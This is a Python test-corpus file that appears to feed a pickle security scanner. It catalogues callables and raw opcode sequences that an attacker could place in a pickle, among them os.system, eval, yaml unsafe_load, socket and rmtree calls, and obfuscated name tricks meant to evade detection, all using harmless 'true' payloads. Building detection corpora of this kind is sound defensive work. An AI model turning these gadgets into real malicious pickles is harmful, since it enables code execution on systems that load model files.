# ruff: noqa: E501 - a table of callables
"""Callables of the fresh corpus: what an attacker writes into a pickle, from knowledge of Python and its libraries.

Each entry is a class, a global and its arguments. Written without reading modelward's rules or its other corpora.
"""

from __future__ import annotations

import marshal

from vectors.asm import CODE, COMMAND, PATH, Raw, call, push, ref, text

SHELL = ["sh", "-c", COMMAND]
URL = "http://127.0.0.1:9/x"
SYSTEM = ref("posix:system")
NESTED = b"cposix\nsystem\n(S'true'\ntR."
EXPRESSION = "__import__('os').system('true')"

PROCESS = (
    ("os:system", COMMAND),
    ("posix:system", COMMAND),
    ("nt:system", COMMAND),
    ("os:popen", COMMAND),
    ("subprocess:Popen", SHELL),
    ("subprocess:call", SHELL),
    ("subprocess:check_output", ["true"]),
    ("subprocess:getstatusoutput", COMMAND),
    ("commands:getoutput", COMMAND),
    ("popen2:popen3", COMMAND),
    ("os:execvp", "true", ["true"]),
    ("os:execl", "/bin/true", "true"),
    ("os:spawnvp", 0, "true", ["true"]),
    ("os:posix_spawnp", "true", ["true"], {}),
    ("os:startfile", "calc.exe"),
    ("pty:spawn", ["true"]),
    ("_posixsubprocess:fork_exec", ["true"]),
    ("multiprocessing.util:spawnv_passfds", b"/bin/true", [b"true"], ()),
    ("uuid:_get_command_stdout", "true"),
    ("_osx_support:_read_output", COMMAND),
    ("distutils.spawn:spawn", ["true"]),
    ("setuptools._distutils.spawn:spawn", ["true"]),
    ("imaplib:IMAP4_stream", COMMAND),
    ("pydoc:pipepager", "x", COMMAND),
    ("mailcap:findmatch", {"a/b": [{"view": "x", "test": COMMAND}]}, "a/b"),
    ("psutil:Popen", ["true"]),
    ("pexpect:spawn", COMMAND),
    ("pexpect:run", COMMAND),
    ("paramiko:ProxyCommand", COMMAND),
    ("invoke:run", COMMAND),
    ("IPython.utils.process:system", COMMAND),
    ("sh:Command", "true"),
    ("numpy.f2py.diagnose:run_command", COMMAND),
    ("numpy.distutils.exec_command:exec_command", COMMAND),
    ("torch.utils.collect_env:run", COMMAND),
    ("test.support.script_helper:assert_python_ok", "-c", CODE),
    ("pip._internal.utils.subprocess:call_subprocess", ["true"]),
    ("ensurepip:_run_pip", ["--version"]),
    ("pip:main", ["install", "--no-index", "/proc/0/x"]),
    ("pip._internal.cli.main:main", ["install", "--no-index", "/proc/0/x"]),
    ("venv:main", ["/proc/0/x"]),
    ("ray.util.multiprocessing:Pool", 1, SYSTEM, (COMMAND,)),
    ("git.cmd:Git.execute", None, ["true"]),
    ("fabric:Connection.local", None, COMMAND),
)

EVALUATED = (
    ("builtins:exec", CODE),
    ("builtins:eval", CODE),
    ("builtins:eval", EXPRESSION),
    ("__builtin__:execfile", PATH),
    ("builtins:breakpoint",),
    ("timeit:timeit", CODE, "pass", ref("time:time"), 1),
    ("timeit:repeat", CODE, "pass", ref("time:time"), 1, 1),
    ("cProfile:run", CODE),
    ("profile:runctx", CODE, {}, {}),
    ("pdb:run", CODE),
    ("runpy:_run_code", push(CODE), {}),
    ("runpy:run_path", PATH),
    ("runpy:run_module", "antigravity"),
    ("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), CODE),
    ("bdb:Bdb.run", call("bdb:Bdb"), CODE),
    ("trace:Trace.run", call("trace:Trace"), CODE),
    ("doctest:debug_script", CODE),
    ("idlelib.run:Executive.runcode", None, CODE),
    ("idlelib.calltip:get_entity", EXPRESSION),
    ("numpy.testing._private.utils:runstring", CODE, {}),
    ("numpy.f2py.crackfortran:myeval", EXPRESSION),
    ("sympy:sympify", EXPRESSION),
    ("sympy.parsing.sympy_parser:parse_expr", EXPRESSION),
    ("sympy:lambdify", "x", EXPRESSION),
    ("torch.fx.graph_module:_exec_with_source", CODE, {}),
    (
        "torch.fx.graph_module:reduce_graph_module",
        {"_code": "def forward(self): pass"},
        "import os\nos.system('true')\n",
    ),
    ("torch._dynamo.guards:GuardBuilder.get", None, EXPRESSION),
    ("torch.utils._config_module:ConfigModule.load_config", None, NESTED),
    ("torch.storage:_load_from_bytes", NESTED),
    ("torch.utils.cpp_extension:load_inline", "x", "int f(){return 1;}"),
    ("torch:compile", SYSTEM),
    ("pandas:eval", "@pd.compat.os.system('true')"),
    ("pandas.core.computation.eval:eval", "@pd.io.common.os.system('true')"),
    ("yaml:unsafe_load", "!!python/object/apply:os.system ['true']"),
    ("yaml:load", "!!python/object/apply:os.system ['true']", ref("yaml:UnsafeLoader")),
    ("jsonpickle:decode", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}'),
    ("hydra.utils:instantiate", {"_target_": "os.system", "_args_": [COMMAND]}),
    (
        "logging.config:dictConfig",
        {"version": 1, "formatters": {"f": {"()": "subprocess.getoutput", "cmd": COMMAND}}},
    ),
    ("asteval:Interpreter", {"f": SYSTEM}),
    ("keras.src.utils.python_utils:func_load", "4wAAAAA="),
    (
        "keras.src.saving.serialization_lib:deserialize_keras_object",
        {"module": "os", "class_name": "system", "config": COMMAND},
    ),
    ("pickle:loads", NESTED),
    ("_pickle:loads", NESTED),
    ("dill:loads", NESTED),
    ("cloudpickle:loads", NESTED),
    ("joblib:load", PATH),
    ("torch:load", PATH),
    ("torch.hub:load", "attacker/repo", "model"),
    ("numpy:load", PATH, None, True),
    ("pandas.io.pickle:read_pickle", PATH),
    ("shelve:open", PATH),
    ("lib2to3.pgen2.grammar:Grammar.loads", None, NESTED),
    ("gensim.utils:unpickle", PATH),
    ("mlflow.pyfunc:load_model", PATH),
    ("transformers.dynamic_module_utils:get_class_from_dynamic_module", "modeling.Evil", "attacker/repo"),
    ("spacy.cli.download:download", "en"),
    ("marshal:loads", marshal.dumps(compile("print(1)", "m", "exec"))),
)

INDIRECT = (
    ("concurrent.futures.process:_process_chunk", SYSTEM, [(COMMAND,)]),
    ("multiprocessing.pool:mapstar", (SYSTEM, [COMMAND])),
    ("multiprocessing.pool:starmapstar", (SYSTEM, [(COMMAND,)])),
    ("heapq:nlargest", 1, [COMMAND], SYSTEM),
    ("heapq:nsmallest", 2, [COMMAND, COMMAND], SYSTEM),
    ("copy:_reconstruct", None, None, SYSTEM, (COMMAND,)),
    ("importlib._bootstrap:_call_with_frames_removed", SYSTEM, COMMAND),
    ("builtins:list", call("builtins:map", SYSTEM, [COMMAND])),
    ("builtins:set", call("builtins:filter", SYSTEM, [COMMAND])),
    ("collections:deque", call("itertools:starmap", SYSTEM, [(COMMAND,)])),
    ("builtins:dict", call("itertools:groupby", [COMMAND], SYSTEM)),
    ("builtins:any", call("itertools:takewhile", SYSTEM, [COMMAND])),
    ("functools:reduce", ref("os:execlp"), [COMMAND, COMMAND]),
    ("_thread:start_new_thread", SYSTEM, (COMMAND,)),
    ("threading:Timer.run", call("threading:Timer", 0, SYSTEM, [COMMAND])),
    ("atexit:register", SYSTEM, COMMAND),
    ("weakref:finalize", ref("builtins:set"), SYSTEM, COMMAND),
    ("contextvars:Context.run", call("contextvars:copy_context"), SYSTEM, COMMAND),
    ("contextlib:ExitStack.callback", call("contextlib:ExitStack"), SYSTEM, COMMAND),
    ("curses:wrapper", SYSTEM),
    ("sys:addaudithook", SYSTEM),
    ("sys:setprofile", SYSTEM),
    ("signal:signal", 14, SYSTEM),
    ("asyncio:run", call("asyncio:create_subprocess_shell", COMMAND)),
    ("torch.utils._pytree:tree_map", SYSTEM, [COMMAND]),
    ("torch.utils.data._utils.collate:collate", [COMMAND], {}),
    ("numpy:apply_along_axis", SYSTEM, 0, [1, 2]),
    ("numpy:fromfunction", ref("builtins:exec"), (1,)),
    ("scipy.optimize:brentq", SYSTEM, 0, 1),
    (
        "joblib.parallel:BatchedCalls.__call__",
        call("joblib.parallel:BatchedCalls", [(SYSTEM, (COMMAND,), {})], (None, 1)),
    ),
    ("networkx.utils.decorators:argmap", SYSTEM, 0),
    ("dask.delayed:delayed", SYSTEM),
    ("pkgutil:resolve_name", "os:system"),
    ("cloudpickle.cloudpickle:subimport", "antigravity"),
    ("importlib:import_module", "antigravity"),
    ("ctypes:CDLL", PATH),
    ("ctypes:PyDLL", PATH),
    ("numpy.ctypeslib:load_library", "evil.so", PATH),
    ("torch._ops:_Ops.load_library", ref("torch:ops"), PATH),
    ("_imp:create_dynamic", None),
    ("site:addpackage", PATH, "x.pth", None),
)

EFFECTS = (
    ("urllib.request:urlopen", URL),
    ("urllib.request:urlretrieve", URL, PATH),
    ("requests:get", URL),
    ("requests.api:post", URL),
    ("httpx:get", URL),
    ("http.client:HTTPConnection.request", call("http.client:HTTPConnection", "127.0.0.1", 9), "GET", "/"),
    ("socket:create_connection", ("127.0.0.1", 9)),
    ("ftplib:FTP", "127.0.0.1"),
    ("smtplib:SMTP", "127.0.0.1", 9),
    ("telnetlib:Telnet", "127.0.0.1", 9),
    ("shutil:rmtree", PATH),
    ("shutil:unpack_archive", PATH + ".zip", PATH),
    ("shutil:copyfile", PATH, PATH),
    ("os:remove", PATH),
    ("os:chmod", PATH, 511),
    ("os:symlink", PATH, PATH + "/a"),
    ("os:kill", 0, 0),
    ("os:_exit", 0),
    ("builtins:open", PATH, "w"),
    ("_io:open", PATH, "w"),
    ("io:FileIO", PATH, "w"),
    ("pathlib:Path.write_text", call("pathlib:PosixPath", PATH), "x"),
    ("pathlib:Path.unlink", call("pathlib:PosixPath", PATH)),
    ("distutils.file_util:write_file", PATH, ["x"]),
    ("numpy:savetxt", PATH, [1]),
    ("numpy:memmap", PATH, "uint8", "w+"),
    ("pandas:read_csv", URL),
    ("torchvision.datasets.utils:download_and_extract_archive", URL, PATH),
    ("huggingface_hub:snapshot_download", "attacker/repo"),
    ("nltk.downloader:download", "punkt"),
    ("keras.src.utils.file_utils:get_file", "x", URL),
    ("sqlite3:connect", PATH),
    ("webbrowser:open", URL),
    ("tempfile:NamedTemporaryFile",),
    ("logging:FileHandler", PATH),
)
"""Files, network, the process itself: harm without another program. A reader of a file leaks or overwrites it."""


def obscured() -> list[tuple[str, Raw, str]]:
    """The same `os.system('true')`, named so that no text of it is in the stream."""
    get = "builtins:getattr"
    module = call("importlib:import_module", "os")
    code = marshal.dumps(compile(CODE, "m", "exec"))

    def run(function: bytes) -> Raw:
        return Raw(function + push((COMMAND,)) + b"R")

    def applied(function: bytes, *arguments: object) -> Raw:
        return Raw(function + push(arguments) + b"R")

    def named(name: object) -> Raw:
        return run(call(get, module, name))

    decoded = call("builtins:bytes.decode", call("builtins:bytes.fromhex", "73797374656d"))
    hidden = call("builtins:bytes.decode", call("base64:b64decode", "b3M="))
    cases = [
        ("getattr of an imported module", named("system")),
        ("__import__", run(call(get, call("builtins:__import__", "os"), "system"))),
        ("rot13 name", named(call("codecs:decode", "flfgrz", "rot13"))),
        ("concatenated name", named(call("operator:add", "sys", "tem"))),
        ("joined name", named(call("builtins:str.join", "", ["s", "y", "stem"]))),
        ("name replaced", named(call("builtins:str.replace", "sXstem", "X", "y"))),
        ("name formatted", named(call("builtins:str.format", "{}{}", "sys", "tem"))),
        ("hex name", named(decoded)),
        ("base64 module", run(call(get, call("builtins:__import__", hidden), "system"))),
        ("attrgetter", run(applied(call("operator:attrgetter", "system"), module))),
        ("methodcaller", applied(call("operator:methodcaller", "system", COMMAND), module)),
        ("item of sys.modules", run(call(get, call("operator:getitem", ref("sys:modules"), "os"), "system"))),
        ("vars of the module", run(call("operator:getitem", call("builtins:vars", module), "system"))),
        (
            "field of a formatter",
            run(
                call(
                    "operator:getitem",
                    call("string:Formatter.get_field", call("string:Formatter"), "0.system", (module,), {}),
                    0,
                )
            ),
        ),
        ("static attribute", run(call("inspect:getattr_static", module, "system"))),
        ("resolved dotted name", run(call("xmlrpc.server:resolve_dotted_attribute", module, "system"))),
        ("pydoc locate", run(call("pydoc:locate", "os.system"))),
        ("mock importer", run(call("unittest.mock:_importer", "os.system"))),
        ("pkgutil name", run(call("pkgutil:resolve_name", "os:system"))),
        ("partial", applied(call("functools:partial", SYSTEM, COMMAND))),
        ("attribute reduced", run(call("functools:reduce", ref(get), ["system"], module))),
        ("compiled code", call("builtins:exec", call("builtins:compile", CODE, "m", "exec"))),
        ("compressed code", call("builtins:exec", call("zlib:decompress", _packed(CODE)))),
        ("code read by codecs", call("builtins:exec", call("codecs:decode", b"cHJpbnQoMSk=", "base64"))),
        ("marshalled code", call("builtins:exec", call("marshal:loads", code))),
        ("function of marshalled code", applied(call("types:FunctionType", call("marshal:loads", code), {}))),
        ("globals of a function", run(call("operator:getitem", ref("os:makedirs.__globals__"), "system"))),
        ("dotted through numpy", call("numpy.lib.npyio:os.system", COMMAND)),
        ("dotted through torch", call("torch.serialization:os.system", COMMAND)),
        ("dotted through joblib", call("joblib.numpy_pickle:os.system", COMMAND)),
        ("dotted through logging", call("logging:os.popen", COMMAND)),
        ("dotted through tarfile", call("tarfile:shutil.os.system", COMMAND)),
        ("dotted through random", call("random:_os.system", COMMAND)),
        (
            "bound method of an instance",
            applied(call(get, call("code:InteractiveInterpreter"), "runsource"), CODE),
        ),
        ("vectorised exec", applied(call("numpy:vectorize", ref("builtins:exec"), ["O"]), CODE)),
        ("class made on the way", applied(call("builtins:type", "X", (), {"__call__": SYSTEM}))),
        ("subclasses of object", call("builtins:type.__subclasses__", ref("builtins:object"))),
        ("import only", ref("collections:_sys.modules")),
    ]
    doubtful = {"subclasses of object", "import only", "class made on the way", "mock importer"}
    return [(name, raw, "not-clean" if name in doubtful else "dangerous") for name, raw in cases]


def _packed(code: str) -> bytes:
    import zlib

    return zlib.compress(code.encode())


def machine() -> list[tuple[str, Raw, int, str]]:
    """Tricks of the pickle machine itself; the number is the least protocol of the stream."""
    space = Raw(b"\x8c\x08argparse\x8c\x09Namespace\x93)\x81")
    pop = b"0"
    cases = [
        ("append of an instance", Raw(space + push({"append": SYSTEM}) + b"b" + text(COMMAND) + b"a"), 4),
        (
            "extend of an instance",
            Raw(
                space
                + push({"extend": call("functools:partial", ref("functools:reduce"), ref("os:execlp"))})
                + b"b("
                + text(COMMAND)
                + text(COMMAND)
                + b"e"
            ),
            4,
        ),
        (
            "setstate of an instance",
            Raw(space + push({"__setstate__": SYSTEM}) + b"b" + text(COMMAND) + b"b"),
            4,
        ),
        (
            "setstate of a class",
            Raw(
                ref("argparse:Namespace")
                + push((None, {"__setstate__": SYSTEM}))
                + b"b"
                + pop
                + space
                + text(COMMAND)
                + b"b"
            ),
            4,
        ),
        (
            "new of a class",
            Raw(ref("argparse:Action") + push((None, {"__new__": SYSTEM})) + b"b" + pop + push(1)),
            4,
        ),
        (
            "attribute of a module",
            Raw(
                call("importlib:import_module", "json")
                + push((None, {"loads": SYSTEM}))
                + b"b"
                + pop
                + call("json:loads", COMMAND)
            ),
            4,
        ),
        (
            "extension registered on the way",
            Raw(
                call("copyreg:add_extension", "posix", "system", 7)
                + pop
                + b"\x82\x07"
                + push((COMMAND,))
                + b"R"
            ),
            2,
        ),
        ("INST", Raw(b"(" + text(COMMAND, 1) + b"iposix\nsystem\n"), 1),
        ("OBJ", Raw(b"(" + SYSTEM + text(COMMAND) + b"o"), 1),
        ("text protocol", Raw(b"cposix\nsystem\np0\n(Vtrue\np1\ntp2\nRp3\n"), 0),
        ("text protocol, INST and exec", Raw(b"(Vprint(1)\ni__builtin__\nexec\n"), 0),
        (
            "name taken from the memo",
            Raw(
                text("posix")
                + b"\x94"
                + pop
                + text("system")
                + b"\x94"
                + pop
                + b"h\x00h\x01\x93"
                + push((COMMAND,))
                + b"R"
            ),
            4,
        ),
        (
            "memo slot overwritten",
            Raw(
                text("collections")
                + b"q\x05"
                + pop
                + text("posix")
                + b"q\x05"
                + pop
                + b"h\x05"
                + text("system")
                + b"\x93"
                + push((COMMAND,))
                + b"R"
            ),
            4,
        ),
        (
            "far memo slot",
            Raw(SYSTEM + b"r\xff\xff\x01\x00" + pop + b"j\xff\xff\x01\x00" + push((COMMAND,)) + b"R"),
            4,
        ),
        ("callable duplicated", Raw(SYSTEM + b"2" + pop + push((COMMAND,)) + b"R"), 4),
        ("callable under a mark", Raw(b"(" + SYSTEM + push((COMMAND,)) + b"R1" + push(1)), 4),
        (
            "frame of a wrong length",
            Raw(b"\x95\x05\x00\x00\x00\x00\x00\x00\x00" + push(1)[:5] + call("posix:system", COMMAND)),
            4,
        ),
        ("popped result", Raw(call("posix:system", COMMAND) + pop + push({"weight": [1, 2]})), 4),
        ("value of a dictionary built late", Raw(b"}" + text("a") + call("posix:system", COMMAND) + b"s"), 4),
        ("keywords", Raw(ref("functools:partial") + push((SYSTEM, COMMAND)) + push({}) + b"\x92" + b")R"), 4),
        ("frozen set of calls", Raw(b"(" + call("posix:system", COMMAND) + b"\x91"), 4),
        (
            "reconstructor of a class",
            call("copyreg:_reconstructor", ref("subprocess:Popen"), ref("builtins:object"), None),
            4,
        ),
    ]
    doubtful = {"new of a class", "reconstructor of a class"}
    return [
        (name, raw, least, "not-clean" if name in doubtful else "dangerous") for name, raw, least in cases
    ]
